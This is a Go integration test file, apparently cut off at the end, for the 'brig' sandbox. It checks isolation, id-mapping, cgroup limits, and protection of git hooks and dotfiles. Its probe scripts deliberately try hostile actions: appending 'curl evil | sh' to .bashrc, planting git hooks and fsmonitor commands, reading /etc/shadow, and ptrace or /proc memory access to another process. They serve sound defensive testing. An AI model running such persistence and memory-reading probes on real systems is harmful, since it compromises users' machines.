package integration

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/cilium/ebpf"
	"golang.org/x/sys/unix"
)

// sandbox runs `brig run [flags] -- args` in dir, as root.
func sandbox(t *testing.T, dir string, flagsAndCmd ...string) result {
	t.Helper()
	return sandboxAs(t, 0, dir, flagsAndCmd...)
}

// sandboxAs runs `brig run [flags] -- args` in dir as uid (0: root), with
// a state root of its own that must be empty afterwards.
func sandboxAs(t *testing.T, uid int, dir string, flagsAndCmd ...string) result {
	t.Helper()
	root := sandboxRoot(t)
	cmd := exec.Command(brigBin, append([]string{"--root", root, "run"}, flagsAndCmd...)...)
	cmd.Dir = dir
	if uid != 0 {
		os.Chown(root, uid, uid)
		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=/"}
		if v := os.Getenv("BRIG_INIT"); v != "" {
			cmd.Env = append(cmd.Env, "BRIG_INIT="+v)
		}
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(uid)}}
	}
	// A hung command fails its test (killed, and what it left deleted)
	// rather than the whole run's timeout.
	r := runCmdFor(cmd, 5*time.Minute)
	if ents := leftIn(root); len(ents) != 0 {
		t.Errorf("brig run -- left state: %v", ents)
		reap(root)
	}
	return r
}

func TestSandboxDefaults(t *testing.T) {
	home := t.TempDir()
	os.WriteFile(filepath.Join(home, "secret"), []byte("s3cret"), 0o644)
	r := sandbox(t, home, "--", "sh", "-c", `
id -u; hostname; pwd
grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status
touch /etc/x 2>/dev/null && echo etc-writable || echo etc-readonly
echo ok > /tmp/t && cat /tmp/t
cat `+home+`/secret 2>/dev/null || echo home-hidden
ls /proc | grep -c '^[0-9]'
unshare -m true 2>/dev/null && echo unshare-ok || echo unshare-denied
ls /sys/class/net
exit 7`)
	if r.code != 7 {
		t.Fatalf("exit %d, want the command's 7: %s", r.code, r.stderr)
	}
	for _, want := range []string{"0\nsandbox\n/tmp\n", "NoNewPrivs:\t1", "Seccomp:\t2", "etc-readonly", "ok\n", "home-hidden", "unshare-denied", "lo\n"} {
		contains(t, r.stdout, want, "brig run -- defaults")
	}
	notContains(t, r.stdout, "s3cret", "host files outside the allow-list")
}

func TestSandboxAllowLists(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "in"), []byte("data\n"), 0o644)
	ro := t.TempDir()
	os.WriteFile(filepath.Join(ro, "f"), []byte("ro-data\n"), 0o644)
	r := sandbox(t, dir, "--rw", dir, "--ro", ro, "-e", "X=y", "--", "sh", "-c",
		"pwd; cat in; echo out > out; cat "+ro+"/f; echo z > "+ro+"/g 2>/dev/null || echo ro-denied; echo $X")
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	for _, want := range []string{dir + "\n", "data\n", "ro-data\n", "ro-denied", "y\n"} {
		contains(t, r.stdout, want, "allow-lists")
	}
	if data, _ := os.ReadFile(filepath.Join(dir, "out")); string(data) != "out\n" {
		t.Errorf("--rw path not written: %q", data)
	}
}

func TestSandboxLimitsAndCaps(t *testing.T) {
	r := sandbox(t, "/", "--pids-limit", "5", "--cap-drop", "ALL", "--", "sh", "-c",
		"grep CapEff /proc/self/status; for i in 1 2 3 4 5 6 7 8; do sleep 2 & done 2>&1 | head -1; wait")
	contains(t, r.stdout, "CapEff:\t0000000000000000", "--cap-drop ALL")
	contains(t, strings.ToLower(r.stdout+r.stderr), "fork", "--pids-limit enforced")
}

func TestSandboxBadFlags(t *testing.T) {
	for _, args := range [][]string{
		{"--net", "bridge", "--", "true"}, {"--ro", "/no/such/path", "--", "true"}, {"-v", "nocolon", "--", "true"},
		{"--cap-add", "NOPE", "--", "true"}, {"--security-opt", "seccomp=/no/such.json", "--", "true"}, {"--"},
		{"--allow-degraded", "seccomp", "--", "true"},
	} {
		r := sandbox(t, "/", args...)
		if r.code == 0 || r.stderr == "" {
			t.Errorf("%v: exit %d, stderr %q", args, r.code, r.stderr)
		}
	}
}

func TestSandboxCheck(t *testing.T) {
	r := sandbox(t, "/", "--check")
	if r.code != 0 {
		t.Fatal(r.stderr)
	}
	families := "IPv4 and IPv6"
	if !hostIPv6() {
		families = "IPv4 only"
	}
	for _, want := range []string{"landlock (ABI", "seccomp", "user namespace", "cgroup limits", "--allow-net", families,
		"yes  brig learn: eBPF recorder"} {
		contains(t, r.stdout, want, "--check")
	}
	// Without root: the other recorder, said so.
	if r := sandboxAs(t, rootlessUID, "/", "--check"); !strings.Contains(r.stdout, "yes  brig learn: through brig's seccomp listener") {
		t.Errorf("--check without root: %s", r.stdout)
	}
}

// TestSandboxKilledBrigLeavesNothing: when brig run -- is SIGKILLed, the
// command dies with it, and the next brig run -- removes the leftovers.
func TestSandboxKilledBrigLeavesNothing(t *testing.T) {
	root := sandboxRoot(t)
	cmd := exec.Command(brigBin, "--root", root, "run", "--name", "victim", "--", "sleep", "60")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	var pid int
	for i := 0; i < 200 && pid == 0; i++ {
		time.Sleep(20 * time.Millisecond)
		out, _ := exec.Command(brigBin, "--root", root, "state", "victim").Output()
		var st struct {
			Pid    int    `json:"pid"`
			Status string `json:"status"`
		}
		if json.Unmarshal(out, &st) == nil && st.Status == "running" {
			pid = st.Pid
		}
	}
	if pid == 0 {
		cmd.Process.Kill()
		cmd.Wait()
		t.Fatal("sandbox never ran")
	}
	cmd.Process.Kill()
	cmd.Wait()
	if !gone(pid) {
		t.Errorf("the command (pid %d) outlived its killed brig", pid)
		syscall.Kill(pid, syscall.SIGKILL)
	}
	r := exec.Command(brigBin, "--root", root, "run", "--", "true")
	if out, err := r.CombinedOutput(); err != nil {
		t.Fatalf("next run: %v %s", err, out)
	}
	if ents := leftIn(root); len(ents) != 0 {
		t.Errorf("leftovers after the next run: %v", ents)
	}
	if _, err := os.Stat("/sys/fs/cgroup/pids/brig/victim"); err == nil {
		t.Error("cgroup of the killed sandbox left")
	}
}

func TestSandboxProfileFileAndHome(t *testing.T) {
	dir := t.TempDir()
	prof := filepath.Join(dir, "sandbox.yaml")
	os.WriteFile(prof, []byte("rw: [\""+dir+"\"]\nenv: [A=1]\nhostname: prof\ncap-drop: [ALL]\npids-limit: 50\n"), 0o644)
	r := sandbox(t, dir, "--profile", prof, "-e", "B=2", "--", "sh", "-c", "echo $A$B; hostname; grep CapEff /proc/self/status; touch ok")
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	for _, want := range []string{"12\n", "prof\n", "CapEff:\t0000000000000000"} {
		contains(t, r.stdout, want, "--profile")
	}
	if _, err := os.Stat(filepath.Join(dir, "ok")); err != nil {
		t.Errorf("the profile's rw path was not writable: %v", err)
	}
	bad := filepath.Join(dir, "bad.yaml")
	os.WriteFile(bad, []byte("nope: 1\n"), 0o644)
	if r := sandbox(t, dir, "--profile", bad, "--", "true"); r.code == 0 || !strings.Contains(r.stderr, `"nope"`) {
		t.Errorf("bad profile: exit %d %s", r.code, r.stderr)
	}
	home, _ := os.UserHomeDir()
	r = sandbox(t, "/", "--home", "ro", "--", "sh", "-c", "ls -d "+home+" && (touch "+home+"/x 2>/dev/null && echo home-written || echo home-ro)")
	contains(t, r.stdout, "home-ro", "--home ro")
	r = sandbox(t, "/", "--", "sh", "-c", "ls -d "+home+" 2>/dev/null || echo no-home")
	contains(t, r.stdout, "no-home", "home hidden by default")
}

// sandboxRoot is a state root the sandbox's mapped root can traverse, as
// /run/brig (0711).
func sandboxRoot(t *testing.T) string {
	t.Helper()
	root, err := os.MkdirTemp(workDir, "sbx-")
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(root, 0o711)
	t.Cleanup(func() { os.RemoveAll(root) })
	return root
}

// TestSandboxRootIsNotHostRoot: run as root with no writable host paths,
// the sandbox's root is an unprivileged range on the host.
func TestSandboxRootIsNotHostRoot(t *testing.T) {
	r := sandbox(t, "/", "--", "sh", "-c", "id -u; cat /proc/self/uid_map; cat /etc/shadow >/dev/null 2>&1 && echo shadow-read || echo shadow-denied")
	f := strings.Fields(r.stdout)
	if len(f) < 5 || f[0] != "0" || f[2] == "0" {
		t.Fatalf("uid inside and map: %q (%s)", r.stdout, r.stderr)
	}
	contains(t, r.stdout, "shadow-denied", "root inside can't read root-only host files")

	// With a writable host path too: id-mapped into the sandbox's range,
	// files keep their owners inside, and what root inside writes belongs
	// to root outside (not to an unmapped id).
	dir, err := os.MkdirTemp(workDir, "rw-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	os.WriteFile(filepath.Join(dir, "mine"), []byte("x"), 0o644)
	os.Chown(filepath.Join(dir, "mine"), 1234, 1234)
	r = sandbox(t, "/", "--rw", dir, "--", "sh", "-c", "cat /proc/self/uid_map; stat -c %u "+dir+"/mine; echo y > "+dir+"/new && echo wrote")
	f = strings.Fields(r.stdout)
	if strings.Contains(r.stderr, "can't be id-mapped") {
		// A kernel that can't id-map this filesystem (tmpfs before 6.3):
		// the run falls back to the host's user namespace, and says so.
		contains(t, r.stderr, "the sandbox keeps the host's user namespace", "fallback warning")
		if len(f) < 3 || f[1] != "0" {
			t.Errorf("fallback: uid_map %q", r.stdout)
		}
		return
	}
	if len(f) < 5 || f[1] == "0" || f[3] != "1234" || f[4] != "wrote" {
		t.Fatalf("--rw as root: uid_map, owner inside, write: %q (%s)", r.stdout, r.stderr)
	}
	if got := hostOwner(t, filepath.Join(dir, "new")); got != 0 {
		t.Errorf("written through --rw: host owner %d, want 0", got)
	}
}

// TestSandboxTTYAndSignals: brig run -t -- CMD through a pty gets a
// terminal inside; a SIGTERM to brig reaches the command.
func TestSandboxTTYAndSignals(t *testing.T) {
	root := sandboxRoot(t)
	m, s := openPty(t)
	defer m.Close()
	cmd := exec.Command(brigBin, "--root", root, "run", "-t", "--", "sh", "-c", "tty; stty size; read x; echo got:$x")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = s, s, s
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	s.Close()
	var out []byte
	buf := make([]byte, 4096)
	sent := false
	for deadline := time.Now().Add(15 * time.Second); time.Now().Before(deadline) && !strings.Contains(string(out), "got:"); {
		m.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
		n, _ := m.Read(buf)
		out = append(out, buf[:n]...)
		if !sent && strings.Contains(string(out), "40 120") {
			m.Write([]byte("typed\r"))
			sent = true
		}
	}
	cmd.Wait()
	contains(t, string(out), "/dev/pts/", "a terminal inside")
	contains(t, string(out), "got:typed", "input through the terminal")

	// Signals: the command traps TERM and exits 42.
	sig := exec.Command(brigBin, "--root", root, "run", "--", "sh", "-c", "trap 'exit 42' TERM; echo ready; while true; do sleep 0.1; done")
	pr, pw, _ := os.Pipe()
	sig.Stdout = pw
	if err := sig.Start(); err != nil {
		t.Fatal(err)
	}
	pw.Close()
	rd := make([]byte, 6)
	pr.SetReadDeadline(time.Now().Add(10 * time.Second))
	if _, err := pr.Read(rd); err != nil {
		sig.Process.Kill()
		sig.Wait()
		t.Fatalf("sandbox never became ready: %v", err)
	}
	sig.Process.Signal(syscall.SIGTERM)
	sig.Wait()
	if code := sig.ProcessState.ExitCode(); code != 42 {
		t.Errorf("SIGTERM to brig: exit %d, want the trap's 42", code)
	}
}

// TestSandboxRootless: brig run -- as an unprivileged user: the caller is
// root in its own user namespace and nothing more; the defaults hold; what
// had to be left out (cgroup limits without delegation) is said.
func TestSandboxRootless(t *testing.T) {
	if data, err := os.ReadFile("/proc/sys/kernel/unprivileged_userns_clone"); err == nil && strings.TrimSpace(string(data)) == "0" {
		t.Skip("unprivileged user namespaces are disabled on this host")
	}
	r := sandboxAs(t, rootlessUID, "/", "--", "sh", "-c", `
id -u; cat /proc/self/uid_map
grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status
touch /etc/x 2>/dev/null && echo etc-writable || echo etc-readonly
cat /etc/shadow >/dev/null 2>&1 && echo shadow-read || echo shadow-denied
ls /proc | grep -c '^[0-9]'
unshare -m true 2>/dev/null && echo unshare-ok || echo unshare-denied
exit 5`)
	if r.code != 5 {
		t.Fatalf("exit %d, want the command's 5: %s", r.code, r.stderr)
	}
	f := strings.Fields(r.stdout)
	if len(f) < 4 || f[0] != "0" || f[1] != "0" || f[2] != strconv.Itoa(rootlessUID) || f[3] != "1" {
		t.Errorf("uid and uid_map inside: %q", r.stdout)
	}
	for _, want := range []string{"NoNewPrivs:\t1", "Seccomp:\t2", "etc-readonly", "shadow-denied", "unshare-denied"} {
		contains(t, r.stdout, want, "rootless brig run --")
	}
	if lines := strings.Split(r.stdout, "\n"); len(lines) < 7 {
		t.Fatalf("output: %q", r.stdout)
	} else if n, _ := strconv.Atoi(lines[6]); n == 0 || n > 5 {
		t.Errorf("%d processes visible, want only the command's own", n)
	}
	// Limits without a delegated cgroup: refused, unless allowed to go.
	if r := sandboxAs(t, rootlessUID, "/", "--memory", "64m", "--", "true"); r.code == 0 || !strings.Contains(r.stderr, "--allow-degraded cgroup") {
		t.Errorf("rootless --memory without delegation: exit %d, want a refusal naming --allow-degraded cgroup: %s", r.code, r.stderr)
	}
	if r := sandboxAs(t, rootlessUID, "/", "--memory", "64m", "--allow-degraded", "cgroup", "--", "true"); r.code != 0 || !strings.Contains(r.stderr, "limits asked for are left out") {
		t.Errorf("rootless --memory --allow-degraded cgroup: exit %d, want 0 and a warning: %s", r.code, r.stderr)
	}
	// Without a cgroup (not delegated here), a run says nothing about it
	// (--check does) and is bounded by rlimits: processes by default,
	// --pids-limit and --memory as rlimits when the cgroup may go.
	if c := sandboxAs(t, rootlessUID, "/", "--check"); !strings.Contains(c.stdout, "no   cgroup limits") {
		t.Skip("this host delegates a cgroup to the test user")
	}
	r = sandboxAs(t, rootlessUID, "/", "--", "grep", "Max processes", "/proc/self/limits")
	if r.code != 0 || strings.Contains(r.stderr, "cgroup") || len(strings.Fields(r.stdout)) < 4 || strings.Fields(r.stdout)[2] != "2048" {
		t.Errorf("a run without a cgroup: exit %d, stdout %q, stderr %q; want a 2048-process bound and no cgroup warning", r.code, r.stdout, r.stderr)
	}
	r = sandboxAs(t, rootlessUID, "/", "--pids-limit", "20", "--memory", "64m", "--allow-degraded", "cgroup", "--", "sh", "-c",
		"grep -E 'Max (processes|address space)' /proc/self/limits; for i in $(seq 30); do sleep 1 & done 2>&1 | head -1; wait")
	for _, want := range []string{"Max processes             20", "Max address space         67108864", "fork"} {
		contains(t, r.stdout+r.stderr, want, "rootless --pids-limit and --memory as rlimits")
	}
}

// TestSandboxDetached: brig run -d prints the name and returns while the
// command runs; brig delete removes it, and a finished one is collected by
// the next run.
func TestSandboxDetached(t *testing.T) {
	root := sandboxRoot(t)
	brig := func(args ...string) result {
		cmd := exec.Command(brigBin, append([]string{"--root", root}, args...)...)
		var out, errb strings.Builder
		cmd.Stdout, cmd.Stderr = &out, &errb
		cmd.Run()
		return result{stdout: out.String(), stderr: errb.String(), code: cmd.ProcessState.ExitCode()}
	}
	r := brig("run", "-d", "--name", "bg", "--read-only", "--", "sh", "-c", "echo started; exec sleep 60")
	if r.code != 0 || r.stdout != "bg\n" {
		t.Fatalf("run -d: exit %d, %q %s", r.code, r.stdout, r.stderr)
	}
	for i := 0; i < 100; i++ {
		if data, _ := os.ReadFile(filepath.Join(root, ".rootfs-bg.log")); string(data) == "started\n" {
			break
		} else if i == 99 {
			t.Errorf("the detached command's output: %q", data)
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Cleanup(func() { brig("delete", "--force", "bg") })
	if st := brig("state", "bg"); !strings.Contains(st.stdout, `"running"`) {
		t.Fatalf("detached sandbox not running: %s %s", st.stdout, st.stderr)
	}
	if r := brig("delete", "--force", "bg"); r.code != 0 {
		t.Fatalf("delete: %s", r.stderr)
	}
	// One that ends by itself: the next run collects it.
	if r := brig("run", "-d", "--name", "done", "--", "true"); r.code != 0 {
		t.Fatalf("run -d true: %s", r.stderr)
	}
	for i := 0; i < 100; i++ {
		if st := brig("state", "done"); strings.Contains(st.stdout, `"stopped"`) {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	// (a root younger than a minute without state is left to its maker;
	// this one has state, so it goes now)
	if r := brig("run", "--", "true"); r.code != 0 {
		t.Fatalf("next run: %s", r.stderr)
	}
	if ents := leftIn(root); len(ents) != 0 {
		t.Errorf("left after delete and the next run: %v", ents)
	}
	if r := brig("run", "-d", "-t", "--", "true"); r.code != 2 || !strings.Contains(r.stderr, "-d: not with -t") {
		t.Errorf("run -d -t: exit %d %s", r.code, r.stderr)
	}
}

// TestSandboxProtectsGitAndDotfiles: inside a --rw path the command can
// work (commit, edit sources) but not plant what a host tool runs later:
// git hooks, git config (core.hooksPath, core.fsmonitor), shell start-up
// files — in the repository, a worktree's git directory and a submodule's.
// The control, --unprotect all, shows each probe works without it.
func TestSandboxProtectsGitAndDotfiles(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	setup := func() string {
		dir := t.TempDir()
		repo := filepath.Join(dir, "repo")
		git := func(d string, args ...string) {
			cmd := exec.Command("git", append([]string{"-c", "user.email=t@t", "-c", "user.name=t", "-c", "protocol.file.allow=always", "-C", d}, args...)...)
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("git %v: %v: %s", args, err, out)
			}
		}
		os.MkdirAll(repo, 0o755)
		git(repo, "init", "-q")
		os.WriteFile(filepath.Join(repo, "main.c"), []byte("int main;\n"), 0o644)
		os.WriteFile(filepath.Join(repo, ".bashrc"), []byte("# mine\n"), 0o644)
		git(repo, "add", ".")
		git(repo, "commit", "-qm", "first")
		git(repo, "worktree", "add", "-q", filepath.Join(repo, "wt"))
		return repo
	}
	probe := `
echo 'touch /tmp/pwned' > .git/hooks/pre-commit 2>/dev/null && echo hook-planted || echo hook-denied
git config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null && echo config-changed || echo config-denied
echo 'curl evil | sh' >> .bashrc 2>/dev/null && echo bashrc-changed || echo bashrc-denied
(cd wt && echo x > "$(git rev-parse --git-common-dir)/hooks/post-checkout") 2>/dev/null && echo wt-hook-planted || echo wt-hook-denied
echo 'int main(){}' > main.c && git -c user.email=s@s -c user.name=s commit -qam edit && echo commit-ok
mv .git .git-moved 2>/dev/null && echo gitdir-moved || echo gitdir-move-denied
`
	repo := setup()
	r := sandbox(t, repo, "--rw", repo, "--", "sh", "-c", probe)
	if r.code != 0 {
		t.Fatalf("exit %d: %s %s", r.code, r.stdout, r.stderr)
	}
	// Moving the git directory away (to make a new one, unprotected) is
	// refused too: it is a mount point.
	for _, want := range []string{"hook-denied", "config-denied", "bashrc-denied", "wt-hook-denied", "commit-ok", "gitdir-move-denied"} {
		contains(t, r.stdout, want, "protected paths in a --rw repository")
	}
	if _, err := os.Stat(filepath.Join(repo, ".git/hooks/pre-commit")); err == nil {
		t.Error("a hook was planted on the host")
	}
	if data, _ := os.ReadFile(filepath.Join(repo, ".git/config")); strings.Contains(string(data), "fsmonitor") {
		t.Error("core.fsmonitor was written to the host's .git/config")
	}
	// A protected name the repository lacks can't be held by a mount:
	// the BPF LSM guard refuses to make it (TestSandboxGuard); without
	// it, its creation is reported when the command ends.
	r = sandbox(t, repo, "--rw", repo, "--", "sh", "-c", "mkdir .vscode && echo '{}' > .vscode/settings.json && echo made")
	if guardActive(t) {
		notContains(t, r.stdout, "made", "creating a missing protected name, with the guard")
	} else {
		contains(t, r.stdout, "made", "creating a missing protected name")
		contains(t, r.stderr, "/.vscode was created", "the run's warning")
	}
	// brig inspect lists them, from the kernel's mount table.
	root := sandboxRoot(t)
	bg := exec.Command(brigBin, "--root", root, "run", "-d", "--name", "prot", "--rw", repo, "--", "sleep", "60")
	if out, err := bg.CombinedOutput(); err != nil {
		t.Fatalf("run -d: %v: %s", err, out)
	}
	t.Cleanup(func() { exec.Command(brigBin, "--root", root, "delete", "--force", "prot").Run() })
	out, err := exec.Command(brigBin, "--root", root, "inspect", "prot").CombinedOutput()
	if err != nil {
		t.Fatalf("inspect: %v: %s", err, out)
	}
	contains(t, string(out), "read-only inside writable mounts: "+repo+"/.bashrc "+repo+"/.git/config "+repo+"/.git/hooks", "brig inspect")
	exec.Command(brigBin, "--root", root, "delete", "--force", "prot").Run()
	// The control: with --unprotect all, every probe works.
	ctl := setup()
	r = sandbox(t, ctl, "--rw", ctl, "--unprotect", "all", "--", "sh", "-c", probe)
	for _, want := range []string{"hook-planted", "config-changed", "bashrc-changed", "wt-hook-planted", "commit-ok", "gitdir-moved"} {
		contains(t, r.stdout, want, "the control, --unprotect all")
	}
	r = sandbox(t, ctl, "--rw", ctl, "--unprotect", ".bashrc", "--", "sh", "-c", probe)
	for _, want := range []string{"hook-denied", "config-denied", "bashrc-changed"} {
		contains(t, r.stdout, want, "--unprotect .bashrc")
	}
	if r := sandbox(t, ctl, "--rw", ctl, "--unprotect", "src", "--", "true"); r.code != 2 || !strings.Contains(r.stderr, `--unprotect "src"`) {
		t.Errorf("--unprotect of a name not protected: exit %d: %s", r.code, r.stderr)
	}
}

// TestSandboxProtectedAncestors: the directories between a writable path
// and a protected one are bound onto themselves so that they can't be
// moved away — but not where another mount lies there (a read-only
// volume stays what it was), and a link on the way is watched, not
// bound (replacing it is refused with the guard, reported without).
func TestSandboxProtectedAncestors(t *testing.T) {
	p, vol := t.TempDir(), t.TempDir()
	os.MkdirAll(filepath.Join(p, ".git/hooks"), 0o755)
	os.WriteFile(filepath.Join(p, ".git/config"), nil, 0o644)
	os.WriteFile(filepath.Join(vol, "from-volume"), nil, 0o644)
	os.MkdirAll(filepath.Join(p, "dotfiles/claude"), 0o755)
	os.WriteFile(filepath.Join(p, "dotfiles/claude/settings.json"), []byte("{}"), 0o644)
	os.Symlink("dotfiles/claude", filepath.Join(p, ".claude"))
	r := sandbox(t, p, "--rw", p, "-v", vol+":"+p+"/.git:ro", "--", "sh", "-c",
		`ls .git; touch .git/x 2>/dev/null && echo volume-written || echo volume-read-only
rm .claude 2>/dev/null && echo link-removed || echo link-kept`)
	contains(t, r.stdout, "from-volume", "the read-only volume over .git")
	contains(t, r.stdout, "volume-read-only", "the read-only volume over .git")
	if guardActive(t) {
		contains(t, r.stdout, "link-kept", "a link on the way to a protected path, with the guard")
	} else {
		contains(t, r.stdout, "link-removed", "a link on the way to a protected path, without the guard")
		contains(t, r.stderr, "/.claude (a link) was replaced", "the run's warning")
	}
}

// guardActive says whether `brig run --check` finds the BPF LSM guard
// usable here (root, the BPF LSM active, its programs allowed).
func guardActive(t *testing.T) bool {
	t.Helper()
	out, _ := exec.Command(brigBin, "run", "--check").CombinedOutput()
	return strings.Contains(string(out), "yes  protected names a writable path lacks")
}

// TestSandboxGuard: where the BPF LSM can be used, what no mount can
// hold is refused too: making a protected name the writable path lacks
// (by open, mkdir, symlink, link or rename), a protected name's parent
// that is missing as anything but a directory, and opening a sibling's
// memory through /proc. The control (--unprotect all --allow-ptrace)
// does each. Without the guard (this host refuses BPF LSM programs; the
// VM lane has them) the test skips.
func TestSandboxGuard(t *testing.T) {
	if !guardActive(t) {
		out, _ := exec.Command(brigBin, "run", "--check").CombinedOutput()
		for _, l := range strings.Split(string(out), "\n") {
			if strings.Contains(l, "protected names a writable path lacks") {
				t.Skipf("no BPF LSM guard here: %s", l)
			}
		}
		t.Skip("no BPF LSM guard here")
	}
	probe := `mkdir .vscode 2>/dev/null && echo vscode-made || echo vscode-refused
echo x > .envrc 2>/dev/null && echo envrc-made || echo envrc-refused
ln -s /tmp/x .profile 2>/dev/null && echo symlink-made || echo symlink-refused
touch y && mv y .zshrc 2>/dev/null && echo renamed-in || echo rename-refused
touch h && ln h .bash_login 2>/dev/null && echo hardlink-made || echo hardlink-refused
mkdir w && echo '{}' > w/settings.json && mv w .claude 2>/dev/null && echo claude-moved-in || echo claude-move-refused
mkdir -p .claude && echo claude-dir-made
echo '{}' > .claude/settings.json 2>/dev/null && echo claude-settings-made || echo claude-settings-refused
ln -s /tmp .config 2>/dev/null && echo config-link-made || echo config-link-refused
touch other && echo other-made
sleep 30 & pid=$!
(exec 3</proc/$pid/mem) 2>/dev/null && echo mem-opened || echo mem-refused
kill $pid
`
	dir := t.TempDir()
	r := sandbox(t, dir, "--rw", dir, "--", "sh", "-c", probe)
	for _, want := range []string{"vscode-refused", "envrc-refused", "symlink-refused", "rename-refused", "hardlink-refused",
		"claude-dir-made", "claude-settings-refused", "claude-move-refused", "config-link-refused", "other-made", "mem-refused"} {
		contains(t, r.stdout, want, "the guard")
	}
	for _, name := range []string{".vscode", ".envrc", ".profile", ".zshrc", ".bash_login", ".claude/settings.json", ".config"} {
		if _, err := os.Lstat(filepath.Join(dir, name)); err == nil {
			t.Errorf("%s was made on the host", name)
		}
	}
	notContains(t, r.stderr, "was created", "the run's warning: nothing was")
	// The programs stay attached for the next runs (pinned); each run
	// takes its entries out when it ends.
	if n := guardEntries(t); n != 0 {
		t.Errorf("%d guard entries left after the runs", n)
	}
	// In the background (-d), the sandbox outlives brig: its entries stay
	// until it is deleted (and the next run prunes them).
	root := sandboxRoot(t)
	d := exec.Command(brigBin, "--root", root, "run", "-d", "--name", "bg", "--rw", dir, "--", "sh", "-c",
		"sleep 0.5; mkdir .idea 2>/dev/null && touch bg-made || touch bg-refused; sleep 60")
	d.Dir = dir
	if out, err := d.CombinedOutput(); err != nil {
		t.Fatalf("run -d: %v: %s", err, out)
	}
	t.Cleanup(func() { exec.Command(brigBin, "--root", root, "delete", "--force", "bg").Run() })
	for i := 0; i < 100; i++ {
		if _, err := os.Stat(filepath.Join(dir, "bg-refused")); err == nil {
			break
		}
		if _, err := os.Stat(filepath.Join(dir, "bg-made")); err == nil {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	if _, err := os.Stat(filepath.Join(dir, "bg-refused")); err != nil {
		t.Errorf("run -d: the protected name was not refused in the background (.idea made: %v)", fileExists(filepath.Join(dir, ".idea")))
	}
	if out, err := exec.Command(brigBin, "--root", root, "delete", "--force", "bg").CombinedOutput(); err != nil {
		t.Fatalf("delete: %v: %s", err, out)
	}
	if guardEntries(t) == 0 {
		t.Error("run -d: its entries were gone before it was")
	}
	sandbox(t, dir, "--", "true")
	if n := guardEntries(t); n != 0 {
		t.Errorf("%d guard entries left after the deleted background run and another", n)
	}
	// A brig killed before it takes them out: the next run prunes them,
	// once its sandbox is deleted (the cgroup is gone).
	bg := exec.Command(brigBin, "--root", root, "run", "--name", "killed", "--rw", dir, "--", "sleep", "60")
	if err := bg.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { exec.Command(brigBin, "--root", root, "delete", "--force", "killed").Run() })
	for i := 0; i < 100 && guardEntries(t) == 0; i++ {
		time.Sleep(50 * time.Millisecond)
	}
	if guardEntries(t) == 0 {
		t.Fatal("the background run's entries never appeared")
	}
	bg.Process.Kill()
	bg.Wait()
	if out, err := exec.Command(brigBin, "--root", root, "delete", "--force", "killed").CombinedOutput(); err != nil {
		t.Fatalf("delete: %v: %s", err, out)
	}
	if guardEntries(t) == 0 {
		t.Fatal("the killed run's entries were taken out: the kill came too late to test pruning")
	}
	sandbox(t, dir, "--rw", dir, "--", "true")
	if n := guardEntries(t); n != 0 {
		t.Errorf("%d guard entries left after a run that should have pruned the killed run's", n)
	}
	ctl := t.TempDir()
	r = sandbox(t, ctl, "--rw", ctl, "--unprotect", "all", "--allow-ptrace", "--", "sh", "-c", probe)
	for _, want := range []string{"vscode-made", "envrc-made", "symlink-made", "renamed-in", "hardlink-made",
		"claude-dir-made", "claude-settings-made", "claude-moved-in", "config-link-made", "other-made", "mem-opened"} {
		contains(t, r.stdout, want, "the control, --unprotect all --allow-ptrace")
	}
}

func fileExists(p string) bool {
	_, err := os.Lstat(p)
	return err == nil
}

// guardEntries counts the entries in the pinned guard's maps (the
// cgroups guarded and their names).
func guardEntries(t *testing.T) int {
	t.Helper()
	dirs, _ := filepath.Glob("/sys/fs/bpf/brig-lsm-*")
	if len(dirs) != 1 {
		t.Fatalf("pinned guard directories: %v, want one", dirs)
	}
	n := 0
	for _, name := range []string{"cgroups", "names"} {
		m, err := ebpf.LoadPinnedMap(filepath.Join(dirs[0], name), nil)
		if err != nil {
			t.Fatal(err)
		}
		var k []byte
		next := make([]byte, m.KeySize())
		for err := m.NextKey(nil, next); err == nil; err = m.NextKey(k, next) {
			k = append(k[:0], next...)
			n++
		}
		m.Close()
	}
	return n
}

// ptraceProbe forks a child and tries, from the parent, what one
// sandboxed process could do to another: attach, read its memory with
// process_vm_readv, write it through /proc/PID/mem.
const ptraceProbe = `
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(b"secret!", 8)
pid = os.fork()
if pid == 0:
    time.sleep(30)
    os._exit(0)
def res(r):
    return "ok" if r >= 0 else os.strerror(ctypes.get_errno())
print("attach", res(libc.ptrace(16, pid, 0, 0)))
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
out = ctypes.create_string_buffer(8)
local, remote = iovec(ctypes.cast(out, ctypes.c_void_p), 8), iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
print("vm_readv", res(libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)))
try:
    open("/proc/%d/mem" % pid, "r+b").close()
    print("mem_write ok")
except OSError as e:
    print("mem_write", e.strerror)
os.kill(pid, signal.SIGKILL)
`

// TestSandboxPtrace: one sandboxed process can't attach to another, read
